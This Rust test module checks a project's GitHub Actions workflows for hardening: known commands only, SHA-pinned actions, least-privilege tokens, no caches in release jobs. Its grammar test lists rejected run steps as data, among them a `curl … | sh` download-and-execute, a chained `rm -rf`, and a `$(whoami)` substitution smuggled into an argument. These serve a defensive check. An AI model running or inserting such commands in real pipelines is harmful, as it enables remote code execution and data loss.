//! The workflows' invariants as plain tests (rust-analyzer's "tidy"): every `run:` step is one
//! `cargo xtask …` or `make …` call that the CLI or the Makefile knows, every action is pinned
//! to a commit with its version beside it, the release workflow is hardened as ARCHITECTURE.md
//! says, and zizmor and check-jsonschema have nothing to report.
//!
//! YAML is read by the project environment's Python (`xtask/py/yaml_to_json.py`, with the
//! ruamel.yaml that check-jsonschema brings) and checked here as JSON, so the xtask needs no YAML
//! crate. Without `.venv` these tests are
//! skipped with the reason printed, except under `CI=true`, where that is a failure.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use clap::Parser;
use serde_json::Value;

use crate::py::{self, Script};
use crate::{flags::Cli, project};

mod caches;

/// One workflow file: its name, its text (for comments, which JSON loses) and its content.
struct Workflow {
    name: String,
    text: String,
    doc: Value,
}

/// What a `run:` step may be.
#[derive(Debug, PartialEq)]
enum Call {
    /// `cargo xtask ARGS…`
    Xtask(Vec<String>),
    /// `make ARGS…`
    Make(Vec<String>),
}

/// A parsed `run:` step: the call, and the environment variables it reads (`"$NAME"`).
#[derive(Debug, PartialEq)]
struct RunStep {
    call: Call,
    env: Vec<String>,
}

#[test]
fn run_steps_only_call_the_xtask_or_make() {
    let Some(workflows) = workflows() else { return };
    let problems: Vec<String> = run_steps(workflows)
        .filter_map(|(at, _, script)| parse_run(script).err().map(|e| format!("{at}: {e}")))
        .collect();
    assert_none(&problems, "run: steps that do more than call `cargo xtask` or `make`");
}

#[test]
fn the_xtask_knows_every_subcommand_the_workflows_call() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    for (at, _, script) in run_steps(workflows) {
        let Ok(RunStep { call: Call::Xtask(args), .. }) = parse_run(script) else { continue };
        let argv = std::iter::once("cargo xtask".to_owned()).chain(args.iter().cloned());
        // `--version` is a call too: it only prints, and compiles the xtask before a token
        // exists (see `the_publishing_job_compiles_the_xtask_before_any_token`).
        if let Err(err) = Cli::try_parse_from(argv)
            && err.kind() != clap::error::ErrorKind::DisplayVersion
        {
            problems.push(format!("{at}: `cargo xtask {}`: {}", args.join(" "), err.kind()));
        }
    }
    assert_none(&problems, "xtask calls the CLI rejects");
}

#[test]
fn the_makefile_has_every_target_the_workflows_call() {
    let Some(workflows) = workflows() else { return };
    let makefile = std::fs::read_to_string(project::root().join("Makefile")).unwrap();
    let targets = make_targets(&makefile);
    let mut problems = Vec::new();
    for (at, _, script) in run_steps(workflows) {
        let Ok(RunStep { call: Call::Make(args), .. }) = parse_run(script) else { continue };
        for target in args.iter().filter(|a| !a.contains('=')) {
            if !targets.contains(target) {
                problems.push(format!("{at}: `make {target}`: no such target in the Makefile"));
            }
        }
    }
    assert_none(&problems, "make targets the Makefile does not define");
}

#[test]
fn run_steps_read_only_variables_their_step_defines() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    for (at, (wf, job, step), script) in run_steps(workflows) {
        let Ok(run) = parse_run(script) else { continue };
        for var in run.env {
            let defined = [&step["env"], &job["env"], &wf.doc["env"]]
                .iter()
                .any(|env| env.get(&var).is_some());
            if !defined && !RUNNER_VARIABLES.contains(&var.as_str()) {
                problems.push(format!("{at}: reads ${var}, which no env: block defines"));
            }
        }
    }
    assert_none(&problems, "run: steps reading undefined variables");
}

#[test]
fn actions_are_pinned_to_a_commit_with_its_version() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    let mut pins: BTreeMap<String, (String, String, String)> = BTreeMap::new();
    for wf in workflows {
        let mut used = 0;
        for (job_id, job) in jobs(wf) {
            let uses = std::iter::once(&job["uses"]).chain(steps(job).map(|s| &s["uses"]));
            for action in uses.filter_map(Value::as_str) {
                used += 1;
                if pin_of(action).is_none() {
                    problems.push(format!(
                        "{} job {job_id}: `{action}` is not pinned to a full commit SHA",
                        wf.name
                    ));
                }
            }
        }
        let lines: Vec<&str> = wf.text.lines().filter(|l| is_uses_line(l)).collect();
        if lines.len() != used {
            problems.push(format!(
                "{}: {used} actions used but {} `uses:` lines found: write each as \
                 `uses: owner/repo@<sha> # vX.Y.Z` on its own line",
                wf.name,
                lines.len()
            ));
        }
        for line in lines {
            let Some((action, version)) = uses_line(line) else {
                problems.push(format!(
                    "{}: `{}`: expected `uses: owner/repo@<40-hex sha> # vX.Y.Z`",
                    wf.name,
                    line.trim()
                ));
                continue;
            };
            let Some((repo, sha)) = pin_of(action) else { continue };
            let pin = (sha.to_owned(), version.to_owned(), wf.name.clone());
            match pins.get(repo) {
                Some((s, v, first)) if (s, v) != (&pin.0, &pin.1) => problems.push(format!(
                    "{}: {repo}@{sha} # {version}, but {first} pins {repo}@{s} # {v}: use one \
                     pin per action",
                    wf.name
                )),
                Some(_) => {}
                None => {
                    pins.insert(repo.to_owned(), pin);
                }
            }
        }
    }
    assert_none(&problems, "actions not pinned as `owner/repo@<sha> # vX.Y.Z`");
}

#[test]
fn workflows_are_hardened() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    for wf in workflows {
        let name = &wf.name;
        if wf.doc["permissions"] != Value::Object(Default::default()) {
            problems.push(format!("{name}: expected top-level `permissions: {{}}`"));
        }
        if wf.doc["defaults"]["run"]["shell"] != "bash" {
            problems.push(format!(
                "{name}: expected `defaults: run: shell: bash` (Windows runners default to pwsh, \
                 where \"$VAR\" is not the environment variable)"
            ));
        }
        if wf.doc["concurrency"]["group"].as_str().is_none() {
            problems.push(format!("{name}: expected a `concurrency` group"));
        }
        let secrets: Vec<&str> =
            wf.text.match_indices("secrets.").map(|(at, _)| &wf.text[at..]).collect();
        for secret in secrets {
            let name_end = secret
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
                .unwrap_or(secret.len());
            if &secret[..name_end] != ALLOWED_SECRET {
                problems.push(format!(
                    "{name}: reads `{}`: expected trusted publishing (OIDC) and github.token \
                     only (the one secret is the optional {ALLOWED_SECRET})",
                    &secret[..name_end]
                ));
            }
        }
        for (job_id, job) in jobs(wf) {
            if job["timeout-minutes"].as_u64().is_none_or(|m| m == 0) {
                problems.push(format!("{name} job {job_id}: expected `timeout-minutes`"));
            }
            if !job["permissions"].is_object() {
                problems.push(format!(
                    "{name} job {job_id}: expected its own `permissions` (the workflow grants none)"
                ));
            }
            for step in steps(job) {
                let is_checkout =
                    step["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@"));
                if is_checkout && step["with"]["persist-credentials"] != false {
                    problems.push(format!(
                        "{name} job {job_id}: checkout without `persist-credentials: false`"
                    ));
                }
            }
        }
    }
    assert_none(&problems, "workflows missing their hardening");
}

#[test]
fn the_release_is_never_cancelled() {
    let Some(workflows) = workflows() else { return };
    let release = workflow(workflows, "release.yml");
    let mut problems = Vec::new();
    // Only a pull request's rehearsal gives way to a newer push; every other run has a group
    // of its own (the run id), so nothing cancels it.
    let concurrency = &release.doc["concurrency"];
    if concurrency["cancel-in-progress"] != "${{ github.event_name == 'pull_request' }}" {
        problems.push("expected `cancel-in-progress` for pull requests only".to_owned());
    }
    let group = concurrency["group"].as_str().unwrap_or_default();
    if !group.contains("github.run_id") {
        problems.push(format!("expected a group of its own per non-PR run, found `{group}`"));
    }
    let publish = &release.doc["jobs"]["publish"];
    if publish["concurrency"]["cancel-in-progress"] != false
        || !publish["concurrency"]["group"].is_string()
    {
        problems
            .push("job publish: expected its own concurrency group, never cancelled".to_owned());
    }
    assert_none(&problems, "release.yml can be cancelled");
}

/// No cache in the release (every artifact is built from the tagged sources alone), nor in any
/// job that holds a write token: an Actions cache is shared with pull requests' runs, so what
/// one of them saves could be restored there. The steps of composite actions count too, read
/// from their recorded action.yml (`xtask/tests/actions`).
#[test]
fn the_release_and_jobs_with_tokens_never_cache() {
    let Some(github) = github() else { return };
    let mut problems = Vec::new();
    for wf in &github.workflows {
        for (job_id, job) in jobs(wf) {
            let writes =
                job["permissions"].as_object().is_some_and(|p| p.values().any(|v| v == "write"));
            if wf.name == "release.yml" || writes {
                let at = format!("{} job {job_id}", wf.name);
                problems.extend(caches::problems(&github.actions, &at, job));
            }
        }
    }
    assert_none(&problems, "caches in the release or in a job that holds a token");
}

/// The check above sees into attest-action: without uv installed first, with the cache off, the
/// publish job would run the action's own setup-uv with its default, caching.
#[test]
fn a_composite_actions_cache_is_seen() {
    let Some(github) = github() else { return };
    let release = workflow(&github.workflows, "release.yml");
    let mut publish = release.doc["jobs"]["publish"].clone();
    let steps = publish["steps"].as_array_mut().unwrap();
    let setup_uv =
        |s: &Value| s["uses"].as_str().is_some_and(|u| u.starts_with("astral-sh/setup-uv@"));
    assert!(steps.iter().any(setup_uv), "the publish job no longer installs uv itself");
    steps.retain(|s| !setup_uv(s));
    let problems = caches::problems(&github.actions, "job publish", &publish);
    let [problem] = &problems[..] else { panic!("expected one problem, found {problems:?}") };
    for needle in
        ["astral-sh/attest-action@", "astral-sh/setup-uv@", "`enable-cache: auto` (its default)"]
    {
        assert!(problem.contains(needle), "{needle:?} not in {problem}");
    }
}

/// The release runs, as a dry run with the whole matrix, before any tag needs it: on pull
/// requests that touch what it is made of, and weekly. There is no other rehearsal workflow.
#[test]
fn the_release_rehearses_on_pull_requests_and_weekly() {
    let Some(workflows) = workflows() else { return };
    let release = workflow(workflows, "release.yml");
    let on = &release.doc["on"];
    let mut problems = Vec::new();
    let paths: Vec<&str> = on["pull_request"]["paths"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    for input in [
        "xtask/**",
        "Cargo.lock",
        "uv.lock",
        "pyproject.toml",
        "rust-toolchain.toml",
        ".github/workflows/**",
    ] {
        if !paths.contains(&input) {
            problems.push(format!("pull_request: expected the path filter to include `{input}`"));
        }
    }
    if on["schedule"][0]["cron"].as_str().is_none() {
        problems.push("expected a weekly `schedule`".to_owned());
    }
    if on["push"]["tags"][0] != "v*.*.*" || on["workflow_dispatch"].is_null() {
        problems.push("expected the tag push and workflow_dispatch triggers".to_owned());
    }
    if workflows.iter().any(|w| w.name != "release.yml" && w.text.contains("make release-dry")) {
        problems.push("a second rehearsal workflow: fold it into release.yml".to_owned());
    }
    assert_none(&problems, "release.yml does not rehearse before the tag");
}

/// A live run that cannot be released (a branch, no tag, a tag off the default branch) stops
/// in the plan job, before the fan-out and the approval.
#[test]
fn a_live_run_from_a_branch_stops_in_the_plan_job() {
    let Some(workflows) = workflows() else { return };
    let plan = &workflow(workflows, "release.yml").doc["jobs"]["plan"];
    let mut problems = Vec::new();
    if plan["outputs"]["publish"] != PUBLISH_OUTPUT || !plan["env"]["LIVE"].is_string() {
        problems.push(format!("expected `outputs: publish: {PUBLISH_OUTPUT}`"));
    }
    let check = steps(plan).find(|s| s["run"] == "cargo xtask check-tag");
    match check {
        None => problems.push("expected a `cargo xtask check-tag` step".to_owned()),
        Some(step) if step["if"] != "env.LIVE == 'true'" => {
            problems.push("expected check-tag to run when LIVE is true".to_owned());
        }
        Some(_) => {}
    }
    let checkout = steps(plan)
        .find(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@")));
    if checkout.is_none_or(|c| c["with"]["fetch-depth"] != 0) {
        problems.push(
            "expected the full history (`fetch-depth: 0`) to see the default branch".to_owned(),
        );
    }
    assert_none(&problems, "the plan job does not stop a live run from a branch");
}

/// The gates, the attestations and the upload run only where publishing can happen — live, in
/// a public repository — and the gates of a live run in a private one are not run for nothing.
#[test]
fn the_gates_and_the_upload_run_only_where_publishing_can() {
    let Some(workflows) = workflows() else { return };
    let release = workflow(workflows, "release.yml");
    let wanted = "needs.plan.outputs.publish == 'true'";
    let mut problems = Vec::new();
    for job_id in ["lint", "test", "attest", "publish"] {
        let condition = release.doc["jobs"][job_id]["if"].as_str().unwrap_or_default();
        if !condition.starts_with(wanted) {
            problems.push(format!("job {job_id}: expected `if: {wanted}`, found `{condition}`"));
        }
    }
    for (job_id, job) in jobs(release) {
        if job["if"].as_str().is_some_and(|c| c.contains("outputs.live")) {
            problems.push(format!("job {job_id}: on `live`, which publishes nothing in private"));
        }
    }
    assert_none(&problems, "release.yml runs gates where nothing can be published");
}

/// Every output a job declares is read by a later job (`needs.<job>.outputs.<name>`): an unread
/// output is either dead or a check that was meant to happen and does not.
#[test]
fn every_job_output_is_read() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    for wf in workflows {
        for (job_id, job) in jobs(wf) {
            for name in job["outputs"].as_object().into_iter().flatten().map(|(k, _)| k) {
                let read = format!("needs.{job_id}.outputs.{name}");
                let used = jobs(wf).any(|(_, other)| {
                    let other = other.to_string();
                    other.match_indices(&read).any(|(at, _)| {
                        !other[at + read.len()..].starts_with(|c: char| {
                            c == '_' || c == '-' || c.is_ascii_alphanumeric()
                        })
                    })
                });
                if !used {
                    problems
                        .push(format!("{} job {job_id}: output `{name}` is never read", wf.name));
                }
            }
        }
    }
    assert_none(&problems, "job outputs nothing reads");
}

/// Tokens go only where they are used: an OIDC token only to the job that attests (which runs
/// no project code) and the job that publishes; the crates.io token only to the publish step;
/// a write token only to the GitHub Release job; no token in any job's environment.
#[test]
fn tokens_only_where_they_are_used() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    for wf in workflows {
        for (job_id, job) in jobs(wf) {
            let at = format!("{} job {job_id}", wf.name);
            let oidc = job["permissions"]["id-token"] == "write";
            if oidc && !(wf.name == "release.yml" && (job_id == "attest" || job_id == "publish")) {
                problems.push(format!("{at}: `id-token: write` outside attest and publish"));
            }
            let pushes = (wf.name == "release.yml" && job_id == "github-release")
                || (wf.name == RELEASE_PR && job_id == RELEASE_PR_JOB);
            if job["permissions"]["contents"] == "write" && !pushes {
                problems.push(format!(
                    "{at}: `contents: write` outside github-release and {RELEASE_PR_JOB}"
                ));
            }
            for scope in ["pull-requests", "actions"] {
                let writes = job["permissions"][scope] == "write";
                if writes && !(wf.name == RELEASE_PR && job_id == RELEASE_PR_JOB) {
                    problems.push(format!("{at}: `{scope}: write` outside {RELEASE_PR}"));
                }
            }
            let job_env = job["env"].to_string();
            if job_env.contains("secrets.") || job_env.contains("token") {
                problems.push(format!("{at}: a token in the job's environment: {job_env}"));
            }
        }
    }
    let release = workflow(workflows, "release.yml");
    let attest = &release.doc["jobs"]["attest"];
    if steps(attest).any(|s| {
        s["run"].is_string()
            || s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@"))
    }) {
        problems.push("job attest: runs project code (a checkout or a run: step)".to_owned());
    }
    let provenance = steps(attest).find(|s| {
        s["uses"].as_str().is_some_and(|u| u.starts_with("actions/attest-build-provenance@"))
    });
    let subjects: Vec<&str> = provenance
        .and_then(|p| p["with"]["subject-path"].as_str())
        .map(|paths| paths.lines().map(str::trim).filter(|l| !l.is_empty()).collect())
        .unwrap_or_default();
    if subjects != ATTESTED {
        problems.push(format!(
            "job attest: expected build provenance of SHA256SUMS and of every artifact \
             (`subject-path` {ATTESTED:?}), found {subjects:?}"
        ));
    }
    let verify = &release.doc["jobs"]["verify"];
    if verify["permissions"] != serde_json::json!({"contents": "read"}) {
        problems.push(format!(
            "job verify: expected `contents: read` only, found {}",
            verify["permissions"]
        ));
    }
    let publish: Vec<&Value> = steps(&release.doc["jobs"]["publish"]).collect();
    let position = |pred: &dyn Fn(&Value) -> bool| publish.iter().position(|s| pred(s));
    let attestations = position(&|s| {
        s["uses"].as_str().is_some_and(|u| u.starts_with("astral-sh/attest-action@"))
    });
    // The upload verifies the attest job's attestation of what it publishes first.
    let upload =
        position(&|s| s["run"] == "cargo xtask publish --live --out dist --require-attestation");
    match (attestations, upload) {
        (Some(a), Some(u)) if a < u => {}
        _ => problems.push(
            "job publish: expected the PEP 740 attestations made before the upload, and the \
             upload `cargo xtask publish --live --out dist --require-attestation`"
                .to_owned(),
        ),
    }
    for (i, step) in publish.iter().enumerate() {
        let step_env = step["env"].to_string();
        if step_env.contains("crates-io.outputs.token") && Some(i) != upload {
            problems.push(format!(
                "job publish step {}: the crates.io token outside the upload",
                i + 1
            ));
        }
    }
    assert_none(&problems, "tokens where they are not used");
}

/// The job that publishes compiles the xtask (`cargo xtask --version`) as its first project
/// code, before any of its steps holds a token: the publishing step then only runs it, so no
/// build script or proc-macro of the xtask's dependencies sees the crates.io token.
///
/// Assumption: cargo does not rebuild between the two calls — same profile, same flags, and
/// no build script in the tree watches the token's variable.
#[test]
fn the_publishing_job_compiles_the_xtask_before_any_token() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    let mut publishers = 0;
    for wf in workflows {
        for (job_id, job) in jobs(wf) {
            let steps: Vec<&Value> = steps(job).collect();
            let live = |s: &&Value| {
                s["run"].as_str().and_then(|r| parse_run(r).ok()).is_some_and(|run| {
                    matches!(run.call, Call::Xtask(args) if args.iter().any(|a| a == "--live"))
                })
            };
            if !steps.iter().any(live) {
                continue;
            }
            publishers += 1;
            let at = format!("{} job {job_id}", wf.name);
            let compile = steps.iter().position(|s| s["run"] == COMPILE);
            let first_run = steps.iter().position(|s| s["run"].is_string());
            let first_token = steps.iter().position(|s| holds_token(s));
            match (compile, first_token) {
                (None, _) => problems.push(format!("{at}: expected a `{COMPILE}` step")),
                (Some(c), _) if first_run != Some(c) => problems.push(format!(
                    "{at}: expected `{COMPILE}` to be the first run: step, found step {}",
                    first_run.map_or(0, |r| r + 1)
                )),
                (Some(c), Some(t)) if t < c => problems.push(format!(
                    "{at}: step {} holds a token before `{COMPILE}` (step {})",
                    t + 1,
                    c + 1
                )),
                (Some(_), None) => problems.push(format!(
                    "{at}: no step holds a token, so this test checks nothing: update \
                     `holds_token` for how the job gets its credentials now"
                )),
                (Some(c), Some(_)) if !steps[c]["env"].is_null() => {
                    problems.push(format!("{at}: expected `{COMPILE}` without an `env:`"));
                }
                _ => {}
            }
        }
    }
    if publishers == 0 {
        problems.push("no job publishes with `--live`".to_owned());
    }
    assert_none(&problems, "the publishing job compiles with a token in its environment");
}

/// The release PR workflow runs `cargo xtask release-pr` once per push to main (or by hand),
/// with the one token it needs for pushing, the pull request and starting release.yml, and
/// nothing else: no pull request trigger (its code would run with those rights), no other
/// step, and never cancelled mid-run (it could stop between a tag's push and its release).
#[test]
fn release_prs_run_the_xtask_once_with_least_privilege() {
    let Some(workflows) = workflows() else { return };
    let wf = workflow(workflows, RELEASE_PR);
    let mut problems = Vec::new();
    let on = wf.doc["on"].as_object().cloned().unwrap_or_default();
    let triggers: Vec<&str> = on.keys().map(String::as_str).collect();
    if triggers != ["push", "workflow_dispatch"]
        || on["push"] != serde_json::json!({"branches": ["main"]})
    {
        problems.push(format!(
            "expected `on: push: branches: [main]` and `workflow_dispatch` only, found {}",
            wf.doc["on"]
        ));
    }
    if wf.doc["concurrency"]["cancel-in-progress"] != false {
        problems.push("expected `cancel-in-progress: false`".to_owned());
    }
    let jobs: Vec<(&String, &Value)> = jobs(wf).collect();
    let [(job_id, job)] = jobs[..] else {
        panic!("{RELEASE_PR}: expected one job, found {}", jobs.len());
    };
    if job_id != RELEASE_PR_JOB {
        problems.push(format!("expected the job `{RELEASE_PR_JOB}`, found `{job_id}`"));
    }
    let least =
        serde_json::json!({"contents": "write", "pull-requests": "write", "actions": "write"});
    if job["permissions"] != least {
        problems.push(format!("expected the permissions {least}, found {}", job["permissions"]));
    }
    let runs: Vec<&Value> = steps(job).filter(|s| s["run"].is_string()).collect();
    match runs[..] {
        [step] if step["run"] == "cargo xtask release-pr" => {
            if step["env"]["GH_TOKEN"] != "${{ github.token }}" {
                problems.push("expected `GH_TOKEN: ${{ github.token }}` on the step".to_owned());
            }
            for who in ["AUTHOR", "COMMITTER"] {
                for what in ["NAME", "EMAIL"] {
                    if !step["env"][format!("GIT_{who}_{what}")].is_string() {
                        problems.push(format!("expected GIT_{who}_{what} (the bot's identity)"));
                    }
                }
            }
        }
        _ => problems.push(format!(
            "expected one run: step, `cargo xtask release-pr`, found {}",
            runs.len()
        )),
    }
    let checkout =
        steps(job).find(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@")));
    if checkout.is_none_or(|c| c["with"]["fetch-depth"] != 0) {
        problems.push("expected a checkout with the full history (`fetch-depth: 0`)".to_owned());
    }
    assert_none(&problems, "release-pr.yml is not as RELEASING.md describes it");
}

#[test]
fn the_release_matrix_comes_from_the_plan() {
    let Some(workflows) = workflows() else { return };
    let release = workflow(workflows, "release.yml");
    let mut problems = Vec::new();
    for (job_id, job) in jobs(release) {
        let matrix = &job["strategy"]["matrix"];
        if !matrix.is_null()
            && !matrix.as_str().is_some_and(|m| m.contains("fromJSON(needs.plan.outputs.matrix)"))
        {
            problems.push(format!(
                "job {job_id}: expected `matrix: ${{{{ fromJSON(needs.plan.outputs.matrix) }}}}`, \
                 found {matrix}"
            ));
        }
    }
    let plan_step = steps(&release.doc["jobs"]["plan"])
        .any(|s| s["run"].as_str().is_some_and(|r| r.contains("cargo xtask plan --format github")));
    if !plan_step {
        problems.push("job plan: expected `cargo xtask plan --format github`".to_owned());
    }
    assert_none(&problems, "release.yml matrix not from `cargo xtask plan`");
}

/// The release ends as its users begin: `verify-release` checks the published release from the
/// registries and the GitHub Release, after everything else.
#[test]
fn the_release_ends_by_verifying_what_it_published() {
    let Some(workflows) = workflows() else { return };
    let release = &workflow(workflows, "release.yml").doc;
    let job = &release["jobs"]["verify-release"];
    let runs: Vec<&str> = steps(job).filter_map(|s| s["run"].as_str()).collect();
    assert_eq!(runs, ["cargo xtask verify-release --require-provenance"]);
    assert_eq!(job["needs"], "github-release", "it must run after the GitHub Release exists");
    let needed: Vec<String> = jobs(workflow(workflows, "release.yml"))
        .filter_map(|(_, j)| {
            j["needs"].as_str().map(str::to_owned).or_else(|| {
                Some(
                    j["needs"]
                        .as_array()?
                        .iter()
                        .filter_map(|n| n.as_str())
                        .collect::<Vec<_>>()
                        .join(" "),
                )
            })
        })
        .collect();
    assert!(
        !needed.iter().any(|n| n.split(' ').any(|n| n == "verify-release")),
        "verify-release is the last job: nothing may wait for it"
    );
}

#[test]
fn publishing_is_live_only_reviewed_and_never_private() {
    let Some(workflows) = workflows() else { return };
    let mut problems = Vec::new();
    let mut publishers = 0;
    for (at, (wf, job, _), script) in run_steps(workflows) {
        let Ok(RunStep { call: Call::Xtask(args), .. }) = parse_run(script) else { continue };
        if !args.iter().any(|a| a == "--live") {
            continue;
        }
        publishers += 1;
        let condition = job["if"].as_str().unwrap_or_default();
        let environment = job["environment"].as_str().or(job["environment"]["name"].as_str());
        for (ok, expected) in [
            (wf.name == "release.yml", "to be in release.yml"),
            (condition.contains("needs.plan.outputs.publish == 'true'"), "`if:` on `publish`"),
            (condition.contains("github.event.repository.private == false"), "`if:` on public"),
            (environment == Some("release"), "`environment: release`"),
            (job["permissions"]["id-token"] == "write", "`permissions: id-token: write`"),
        ] {
            if !ok {
                problems.push(format!("{at}: a live call; expected {expected}"));
            }
        }
    }
    if publishers == 0 {
        problems.push("release.yml: no step publishes with `--live`".to_owned());
    }
    assert_none(&problems, "live publishing without its guards");
}

/// Dependabot keeps the pins and the lock files current: an entry for each ecosystem the
/// repository has, each waiting a week before it takes a new version and grouping its minor and
/// patch updates into one pull request.
#[test]
fn dependabot_updates_every_ecosystem_grouped_with_a_cooldown() {
    let Some(github) = github() else { return };
    let updates: Vec<&Value> =
        github.dependabot["updates"].as_array().into_iter().flatten().collect();
    let mut problems = Vec::new();
    for ecosystem in ["github-actions", "cargo", "uv"] {
        let Some(update) = updates.iter().find(|u| u["package-ecosystem"] == ecosystem) else {
            problems.push(format!("no `package-ecosystem: {ecosystem}` entry"));
            continue;
        };
        if update["directory"] != "/" {
            problems.push(format!("{ecosystem}: expected `directory: /`"));
        }
        if update["cooldown"]["default-days"].as_u64().is_none_or(|days| days < 7) {
            problems.push(format!("{ecosystem}: expected `cooldown: default-days:` of 7 or more"));
        }
        let grouped = update["groups"].as_object().into_iter().flatten().any(|(_, group)| {
            group["patterns"] == serde_json::json!(["*"])
                && group["update-types"] == serde_json::json!(["minor", "patch"])
        });
        if !grouped {
            problems.push(format!("{ecosystem}: expected a group of every minor and patch update"));
        }
    }
    assert_none(&problems, ".github/dependabot.yml misses what it should update");
}

/// The Python files every wheel ships are checked out with LF line endings on every runner, so
/// that the Windows wheels carry the same bytes as the others (`cargo xtask verify` compares
/// them): `.gitattributes` says so, whatever `core.autocrlf` a runner has.
#[test]
fn python_files_are_checked_out_with_lf_everywhere() {
    let root = project::root();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&root).output().unwrap();
    let tracked = git(&["ls-files", "--", "python/*.py", "python/*.pyi"]);
    let tracked = String::from_utf8_lossy(&tracked.stdout);
    let files: Vec<&str> = tracked.lines().collect();
    assert!(files.len() > 2, "expected the package's Python files under python/, found {files:?}");
    let out = Command::new("git")
        .args(["check-attr", "eol", "--"])
        .args(&files)
        .current_dir(&root)
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&out.stdout);
    let problems: Vec<String> = listed
        .lines()
        .filter(|l| !l.ends_with(": eol: lf"))
        .map(|l| format!("{l} (expected lf)"))
        .collect();
    assert!(out.status.success(), "git check-attr: {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(listed.lines().count(), files.len(), "{listed}");
    assert_none(&problems, "Python files a Windows checkout would convert to CRLF");
}

#[test]
fn zizmor_reports_nothing() {
    let Some(zizmor) = venv_bin("zizmor") else { return };
    let root = project::root();
    let out = Command::new(zizmor).args(super::ZIZMOR_ARGS).current_dir(&root).output().unwrap();
    assert!(
        out.status.success(),
        "zizmor found problems in {} (fix them; see https://docs.zizmor.sh/audits/):\n{}{}",
        super::GITHUB_DIR,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn workflows_match_the_github_schema() {
    let Some(check) = venv_bin("check-jsonschema") else { return };
    for (schema, files) in super::schema_checks(&project::root()).unwrap() {
        let out =
            Command::new(&check).args(["--builtin-schema", schema]).args(&files).output().unwrap();
        assert!(
            out.status.success(),
            "{files:?} do not match {schema}:\n{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Pins as a Dependabot pull request writes them: the full commit SHA, and the release's tag as
/// the comment (these two lines are from getsentry/snuba#6554, Dependabot's bump of
/// actions/checkout, the first with the two spaces some editors leave).
#[test]
fn pins_as_dependabot_writes_them() {
    let before = "    - uses: actions/checkout@93ea575cb5d8a053eaa0ac8fa3b40d7e05a33cc8  # v3.1.0";
    let after = "    - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2";
    for (line, sha, version) in [
        (before, "93ea575cb5d8a053eaa0ac8fa3b40d7e05a33cc8", "v3.1.0"),
        (after, "11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"),
    ] {
        assert!(is_uses_line(line));
        let (action, found) = uses_line(line).unwrap();
        assert_eq!((pin_of(action), found), (Some(("actions/checkout", sha)), version));
    }
    let nested = "  uses: actions/attest-build-provenance/predicate@864457a58d4733d7f1574bd8821fa24e02cf7538 # v2";
    assert_eq!(
        uses_line(nested).map(|(a, v)| (pin_of(a).unwrap().0, v)),
        Some(("actions/attest-build-provenance/predicate", "v2"))
    );
    for bad in [
        "- uses: actions/checkout@v4 # v4.2.2",
        "- uses: actions/checkout@11bd719 # v4.2.2",
        "- uses: actions/checkout@11BD71901BBE5B1630CEEA73D27597364C9AF683 # v4.2.2",
    ] {
        assert!(uses_line(bad).is_none_or(|(a, _)| pin_of(a).is_none()), "accepted {bad:?}");
    }
    for bad in [
        "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
        "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # 4.2.2",
        "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # latest",
    ] {
        assert!(uses_line(bad).is_none(), "accepted {bad:?}");
    }
}

#[test]
fn run_step_grammar() {
    let ok = |script: &str| parse_run(script).unwrap();
    assert_eq!(
        ok("cargo xtask plan --format github >> \"$GITHUB_OUTPUT\"\n"),
        RunStep {
            call: Call::Xtask(vec!["plan".into(), "--format".into(), "github".into()]),
            env: vec!["GITHUB_OUTPUT".into()],
        }
    );
    assert_eq!(
        ok("cargo xtask build --target \"$TARGET\" --out dist"),
        RunStep {
            call: Call::Xtask(vec![
                "build".into(),
                "--target".into(),
                PLACEHOLDER.into(),
                "--out".into(),
                "dist".into()
            ]),
            env: vec!["TARGET".into()],
        }
    );
    assert_eq!(ok("make lint").call, Call::Make(vec!["lint".into()]));
    for bad in [
        "cargo xtask build --target ${{ matrix.target }}",
        "cargo xtask lint && curl https://example.invalid | sh",
        "make lint\nmake test",
        "pip install geodist-rs",
        "cargo build",
        "make test; rm -rf dist",
        "cargo xtask plan > out.txt",
        "make lint >> \"$GITHUB_OUTPUT\"",
        "cargo xtask build --target $TARGET",
        "cargo xtask build --target \"$(whoami)\"",
        "",
    ] {
        assert!(parse_run(bad).is_err(), "accepted {bad:?}");
    }
}

/// What the attest job signs: SHA256SUMS itself and every artifact, by kind.
const ATTESTED: [&str; 4] = ["dist/SHA256SUMS", "dist/*.crate", "dist/*.whl", "dist/*.tar.gz"];

/// The step that compiles the xtask in the publishing job, and nothing else.
const COMPILE: &str = "cargo xtask --version";

/// Actions whose output is a registry token.
const TOKEN_ACTIONS: &[&str] = &["rust-lang/crates-io-auth-action@"];

/// The plan job's `publish` output: live, and a public repository.
const PUBLISH_OUTPUT: &str =
    "${{ env.LIVE == 'true' && github.event.repository.private == false }}";

/// The release PR workflow and its one job.
const RELEASE_PR: &str = "release-pr.yml";
const RELEASE_PR_JOB: &str = "release-pr";

/// The one secret a workflow may read: the optional webhook of the release notification.
